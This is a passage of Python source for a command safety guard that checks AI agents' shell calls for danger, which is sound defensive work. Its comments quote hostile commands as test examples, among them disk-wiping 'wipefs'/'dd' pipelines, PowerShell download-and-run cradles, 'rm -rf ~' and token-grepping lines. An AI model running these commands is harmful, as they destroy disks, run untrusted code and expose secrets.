            verdict = findings.blocks(sockets.judge(stages), "network descriptor rule")
            if verdict is not None:
                return verdict
            for position, invocation in enumerate(stages):
                spend()
                if invocation in judged:
                    continue  # the same command again (a function called twice, a loop): same verdict
                judged.add(invocation)
                verdict = _check_one(invocation, home, findings, _fed_text(stages, position))
                if verdict is not None:
                    return verdict
            rule = "pipeline rule (what flows into a shell or interpreter)"
            perhaps = any(_perhaps(stage) for stage in stages)
            verdict = findings.blocks(_check_pipeline(stages, home), rule, perhaps)
            if verdict is not None:
                return verdict
            tactics.uploads.note_written(stages, home)
    verdict = findings.blocks(kept_connection(script), "kept connection rule")
    if verdict is not None:
        return verdict
    names = {invocation.name for invocation in judged}  # the families that may judge the script
    # bash -c 'env | grep -i token', watch 'ps aux | grep pass': the nested code, judged whole too.
    # Each whole script is walked once for all the tactics that judge it (the nested scripts are
    # collected by now): a long script written and made executable is walked by some twenty rules.
    with keeping_walks():
        for whole, perhaps in ((script, False), *nested):
            for judge_script in tactics.script_judges(names):
                verdict = findings.blocks(judge_script(whole, home), _tactic_rule(judge_script), perhaps)
                if verdict is not None:
                    return verdict
    return findings.asked


_TEXT_SOURCES = frozenset({"echo", "printf", "cat"})
"""Programs whose output :func:`~.programs.written_text` knows."""


def _fed_text(stages: list[Invocation], position: int) -> str | None:
    """The text the stage before ``position`` writes into it, when known (``echo TEXT | tee FILE``)."""
    before = stages[position - 1] if position else None
    return written_text(before) if before is not None and before.name in _TEXT_SOURCES else None


_HANDED = lazy_compile(r"\$\{?(\d|[A-Za-z_]\w*)|\{\}")
"""A value handed over at run time: a script's argument (``$1``, ``${0}``: xargs' ``sh -c``), xargs'
``{}``, or a variable ``read`` sets (``while read d``)."""
_DISK_READERS = frozenset({"lsblk", "blkid"})


def _lists_disks(invocation: Invocation) -> bool:
    """``find /dev -type b``, ``ls /dev/sd*``, ``lsblk``, ``ls /sys/block``: the machine's disks listed."""
    values = _values(invocation)
    if invocation.name in _DISK_READERS:
        return True
    if invocation.name == "find":
        return any(v.startswith("/dev") for v in values[:1])
    return any(block_device(v) is not None or v.startswith("/sys/block") for v in values)


def _listed_disks_destroyed(script: Script, home: str) -> Verdict | None:
    """``find /dev -type b | xargs -n1 sh -c 'wipefs -af $0; sgdisk -Z $0'``, ``lsblk -pdno NAME | while read
    d; do dd if=/dev/zero of=$d; done``: the machine's disks listed, then a disk tool given a run-time
    value (a script's argument, a loop's variable, xargs' ``{}``): it rewrites each disk the listing names,
    as the tool would given ``/dev/sda``."""
    stages = [stage for group in walk(script) for stage in group]
    lister = next((stage for stage in stages if _lists_disks(stage)), None)
    if lister is None:
        return None
    read = {v for stage in stages if stage.name == "read" for v in _values(stage) if not v.startswith("-")}

    def handed(word: str) -> bool:
        return any(
            m.group(1) is None or m.group(1).isdigit() or m.group(1) in read for m in _HANDED.finditer(word)
        )

    for stage in stages:
        check = _CHECKS.get(stage.name)
        if check not in (_disk_tool, _dd) or check is None:
            continue
        rendered = [stage.command.render(word) for word in stage.args]
        if not any(handed(word) for word in rendered):
            continue
        args = tuple(
            (word.partition("=")[0] + "=/dev/sda" if "=" in word else "/dev/sda") if handed(word) else word
            for word in rendered
        )
        verdict = check(stage.replace(args=args), home)
        if verdict is not None:
            said = verdict.why.replace("the block device /dev/sda", "each disk").replace(
                "/dev/sda", "each disk"
            )
            why = f"{said} that {lister.name or 'a listing'} names"
            return Verdict(DISK, _piece(f"{lister.text} … {stage.text}"), why)
    return None


def _perhaps(invocation: Invocation) -> bool:
    """Whether ``invocation`` is a command of a line a program was given as an argument and may run
    or only show (``gum confirm 'rm -rf ~'``): its findings are asked."""
    return any(layer.name == PERHAPS for layer in invocation.layers)


def judge_script(script: Script, home: str, policy: Policy) -> Verdict | None:
    """Every rule on a parsed script, as decided by ``policy`` (a script file's text: no repairs)."""
    return _check_script(script, home, policy)


def _check_one(
    invocation: Invocation, home: str, findings: _Findings, fed: str | None = None
) -> Verdict | None:
    """The blocking finding of one simple command: seed 000's rules first, then the tactics. ``fed``: the
    text piped into it, when known (``echo TEXT | sudo tee FILE``)."""
    rule = f"rule for {invocation.name or 'a computed command'}"
    perhaps = _perhaps(invocation)
    found = device_rules.settled(_check_invocation(invocation, home), fed, invocation)
    verdict = findings.blocks(in_place(invocation, found), rule, perhaps)
    if verdict is None:
        text = written_text(invocation) if invocation.name in _TEXT_SOURCES else None
        found = device_rules.settled(_check_redirects(invocation, home), text, invocation)
        verdict = findings.blocks(in_place(invocation, found), "redirect rule", perhaps)
    if verdict is None and fed is not None and (invocation.name == "tee" or invocation.name in _ENCODERS):
        found = _written_backdoor(invocation, home, fed)  # echo CMD | tee FILE: what tee writes
        verdict = findings.blocks(in_place(invocation, found), "written-text rule", perhaps)
    piped = fed if invocation.name == "tee" else None  # echo TEXT | tee FILE: written, as by echo TEXT > FILE
    with piping(invocation, piped):
        for judge in tactics.judges(invocation):
            if verdict is not None:
                return verdict
            found = judge(invocation, home)
            verdict = findings.blocks(in_place(invocation, found), _tactic_rule(judge), perhaps)
    return verdict


def _tactic_rule(judge: Callable[..., object]) -> str:
    return f"{judge.__module__.rpartition('.')[2]} rule"


def check_command(command: str, *, home: str | None = None, policy: Policy | None = None) -> Verdict | None:
    """A :class:`Verdict` if running ``command`` in a shell would be dangerous, else None.

    ``home`` is the home directory that ``~`` and ``$HOME`` mean (default:
    ``$HOME``). ``policy`` decides what each category of danger does (default:
    the policy of the decision under way, else :data:`.policy.DEFAULT_POLICY`):
    the verdict's ``decision`` is ``"block"`` or ``"ask"``, and a command whose
    only findings are allowed gets None. Nothing is run, and nothing is read from
    disk but whether a file a downloaded archive may have unpacked was in the
    call's directory before (:mod:`.workdir`; the answer is cached per directory).
    Linear in the length of the command, within the decision budget
    (:mod:`.budget`): past it, or if the command cannot be judged at all, the
    verdict is a deny.
    """
    if not isinstance(command, str) or not command.strip():
        return None
    home = home or normalize_path("~")
    policy = current_policy() if policy is None else policy
    if len(command) > _CACHED_LENGTH:
        return decide(command, lambda: _judge_command(command, home, policy=policy))
    return decide(command, lambda: _check_cached(command, home, policy, call_directory()))


_CACHED_LENGTH = 1 << 16
"""Longer commands are judged afresh: a cache of 10 MB strings would hold gigabytes."""


@functools.lru_cache(maxsize=1024)
def _check_cached(command: str, home: str, policy: Policy, directory: str | None) -> Verdict | None:
    # Agents repeat themselves (the same test command, the same build): judge once per directory.
    del directory  # a key only: the flat-archive rule looks at what is in it (tactics.exfiltration)
    return _judge_command(command, home, policy=policy)


def _judge_command(
    command: str, home: str, script: Script | None = None, *, policy: Policy | None = None
) -> Verdict | None:
    policy = current_policy() if policy is None else policy
    script = parsed(command) if script is None else script
    with using(policy):
        verdict = _check_script(script, home, policy)
        if verdict is None and script.malformed:
            verdict = policy.apply(_check_malformed(command, home))
        if verdict is None:
            verdict = _check_as_powershell(command, home, policy)
        if verdict is None:
            verdict = _check_placeholders(command, home, policy)
    return verdict


def _check_placeholders(command: str, home: str, policy: Policy) -> Verdict | None:
    """``smbclient //<FQDN/IP>/<share>``: a cheat sheet's line whose placeholders bash reads as redirections,
    judged as well with them filled in (:mod:`.placeholders`), as the agent runs it once it has the values."""
    text = filled(command)
    if text is None:
        return None
    verdict = _check_script(parsed(text), home, policy)
    if verdict is None:
        return None
    why = f"{verdict.why}; read with its placeholders filled in"
    return verdict.replace(why=why, reason=f"{verdict.category}: {verdict.piece} ({why})")


_POWERSHELL_COMMAND = lazy_compile(
    r"^(?:iex|iwr|irm|ri|saps|start-bitstransfer|"
    r"(?:get|set|new|remove|add|clear|copy|move|invoke|start|stop|restart|out|import|export|expand|compress|"
    r"register|unregister|enable|disable|convertto|convertfrom)-[a-z]+)$",
    re.IGNORECASE,
)
"""Commands only PowerShell has (a verb-noun cmdlet, ``iex``, ``iwr``): a line that runs one is judged as
PowerShell's code as well."""
_AS_POWERSHELL: contextvars.ContextVar[bool] = contextvars.ContextVar("agentbus_as_powershell", default=False)


def _check_as_powershell(command: str, home: str, policy: Policy) -> Verdict | None:
    """``IEX (New-Object Net.WebClient).DownloadString(URL)``, ``iwr URL | iex``: a download cradle
    typed straight into PowerShell (Claude Code's PowerShell tool, Codex on Windows, any runtime whose
    shell tool is PowerShell) means nothing to bash, so the line is judged as well as the code handed
    to ``pwsh -Command`` is (the interpreters' rules), whatever shell the runtime was taken to run."""
    if _AS_POWERSHELL.get():
        return None
    runs_cmdlet = _runs_powershell_command(parsed(command))
    if runs_cmdlet:
        token = _AS_POWERSHELL.set(True)
        try:
            verdict = _check_script(parsed("pwsh -NoProfile -Command " + shlex.quote(command)), home, policy)
        finally:
            _AS_POWERSHELL.reset(token)
        if verdict is not None:
            return verdict
    if runs_cmdlet or powershell.reading_powershell() or powershell_code.looks_like_powershell(command):
        return _powershell_code(command, command, policy)
    return None


def _powershell_code(code: str, piece: str, policy: Policy) -> Verdict | None:
    """What PowerShell code does by names only PowerShell and Windows have (:mod:`.powershell_code`)."""
    found = powershell_code.judge(code)
    if found is None:
        for command in powershell_code.dotnet_calls_as_bash(code):
            verdict = check_command(command, policy=policy)
            if verdict is not None:
                why = f"{verdict.why} (.NET's call, read as {command})"
                return verdict.replace(piece=_piece(piece), why=why, reason=None)
        return None
    return policy.apply(Verdict(found[0], _piece(piece), found[1], rule="powershell code"))


def _runs_powershell_command(script: Script) -> bool:
    """Whether a stage of the line runs a command only PowerShell has (``iex``, ``New-Object``): its words
    inside a string (``echo "iwr URL | iex" >> notes.md``, ``grep -r Invoke-Expression``) do not count."""
    return any(_POWERSHELL_COMMAND.match(stage.name) for stages in walk(script) for stage in stages)


def command_text(args: Mapping[str, Any]) -> str | None:
    """The command line of an exec call: ``command`` (a string or an argv list) or ``cmd``; a
    PowerShell call's here-strings as the bash here-documents they amount to (:mod:`.powershell`)."""
    for key in ("command", "cmd", "script"):
        value = args.get(key)
        if isinstance(value, str):
            return powershell.as_bash(value) if powershell.reading_powershell() else value
        if isinstance(value, (list, tuple)) and all(isinstance(v, str) for v in value):
            return shlex.join(value)
    return None


def command_safety_guard(call: ToolCall) -> None:
    """tool.before handler: block an exec call whose command is dangerous (or ask about it).

    The command is judged after the download statements of the session's earlier
    calls (:mod:`.session_downloads`): a payload fetched in one call and run in
    the next is held back like the two statements on one line.
    """
    # After a `cd` to where the session's shell is (.session_directory); others: where it may be.
    given = command_text(call.args)
    command, *elsewhere = session_directory.judged_as(call, given) or (None,)
    if command is None or given is None:
        return
    directory = script_files.call_directory(call.args)
    session = call.session_key
    with working_directory(directory):  # the flat-archive rule looks at what is there
        # A function the command defines and cannot call is judged at its calls (.definitions).
        verdict = definitions.deferred(command, check_command(command), check_command, keeper(session))
        exports = session_exports(session)
        if verdict is None or verdict.decision != "block":  # an ask alone may be a block after them
            earlier = session_downloads.earlier_downloads(session)
            # Only statements that pass alone: a finding they gave would not be this call's.
            earlier = [statement for statement in earlier if check_command(statement) is None]
            if earlier and check_command("\n".join(earlier)) is not None:
                # Together they judge differently (one was evicted): they cannot speak for this call.
                earlier = []
            # The functions earlier calls defined that this one may call: their bodies, judged here.
            called = definitions.reached(command, session_downloads.kept(session, definitions.FUNCTIONS))
            if earlier or called or exports:
                together = check_command("\n".join([*earlier, *called, *exports, command]))
                verdict = together if verdict is None else script_files.stricter(verdict, together)
                if command != given:  # the `cd` statements kept with the downloads move the shell too
                    replayed = check_command("\n".join([*earlier, *called, *exports, given]))
                    verdict = script_files.stricter(verdict, replayed)
        # What earlier calls exported to git and go (export GIT_CONFIG_COUNT=1 …): this call's git has it.
        after_exports = "\n".join([*exports, command])
        if verdict is None or verdict.decision != "block":
            # The scripts it runs from disk (bash x.sh, ./setup.sh, python tools/x.py), by their content.
            found = script_files.check_script_files(after_exports, cwd=directory)
            verdict = script_files.stricter(verdict, found)
        if verdict is None or verdict.decision != "block":
            # The code of a repository an earlier call cloned (cd y && make): asked about.
            verdict = script_files.stricter(
                verdict, clones.check_clone_runs(call.session_key, after_exports, directory)
            )
        for line in elsewhere:
            if verdict is None or verdict.decision != "block":
                verdict = script_files.stricter(verdict, check_command(line))
                verdict = script_files.stricter(verdict, script_files.check_script_files(line, cwd=directory))
    hold(call, verdict)
    if verdict is None:
        session_downloads.remember(call.session_key, command)
    if verdict is None or verdict.decision != "block":
        clones.remember_clones(call.session_key, after_exports, directory)
        keep_exports(session, command)


def session_exports(session: str | None) -> list[str]:
    """What the session's earlier calls exported to git and go (:mod:`.git_settings`), as ``export``
    statements; none when the shell ends with each call (:func:`.definitions.shell_per_call`)."""
    if definitions.shell_ends_each_call():
        return []
    kept = session_downloads.kept(session, EXPORTS)[-1:]  # the latest entry is the whole state
    return [] if kept == [":"] else kept


def keep_exports(session: str | None, command: str) -> None:
    """Keep what ``command`` (let through) exports to git and go, for the session's later calls."""
    if definitions.shell_ends_each_call():
        return
    kept = session_exports(session)
    exporting_all = bool(kept) and kept[-1].startswith("set -a")
    # searches apart: linear in the command; a plain scan first (each pattern, tried at every position,
    # costs tens of milliseconds on a 10 MB line that holds none of its words)
    family = ("GIT_" in command or "GO" in command) and _FAMILY_HINT.search(command) is not None
    mentions_set = "set" in command
    declares = (mentions_set or "export" in command or "declare" in command or "typeset" in command) and (
        _EXPORT_HINT.search(command) is not None
    )
    allexport = "allexport" in command or (mentions_set and _ALLEXPORT.search(command) is not None)
    if not ((declares and (family or allexport)) or (exporting_all and family)):
        return
    try:  # the whole state after this call, from the state before it: the latest entry is the state
        statements = exported_statements(walk(parsed("\n".join([*kept, command]))))
    except Exception:  # the call was let through: a parse that fails here must not fail it
        return
    session_downloads.keep(session, EXPORTS, statements or [":"])


EXPORTS = ".exports"
"""The kind of entry kept per session (:func:`.session_downloads.keep`): git's and go's exports."""
_EXPORT_HINT = lazy_compile(r"\b(?:export|declare|typeset|set|unset)\b")
_FAMILY_HINT = lazy_compile(r"\b(?:GIT_|GO[A-Z])")
_ALLEXPORT = lazy_compile(r"\bset\s+[-+]\w*a")


def keeper(session: str | None) -> Callable[[list[str]], bool]:
    """What keeps a call's deferred function definitions for ``session`` (:mod:`.definitions`)."""
    return lambda texts: session_downloads.keep_all(session, definitions.FUNCTIONS, texts)


GUARD = Guard(id=GUARD_ID, handler=command_safety_guard, tool=r"^exec$", priority=100)
"""The registration spec of the command safety guard."""


def install(
    registry: Registry, *, shadow: bool = False, priority: int | None = None, policy: Policy | None = None
) -> None:
    """Installer (the middleware plug-in convention): add the command safety guard.

    ``shadow=True`` records its decisions without applying them; ``priority``
    overrides the default 100; ``policy`` decides what each category does.
    """
    priorities = {GUARD_ID: priority} if priority is not None else None
    install_guards(registry, [GUARD], shadow=shadow, priorities=priorities, policy=policy)
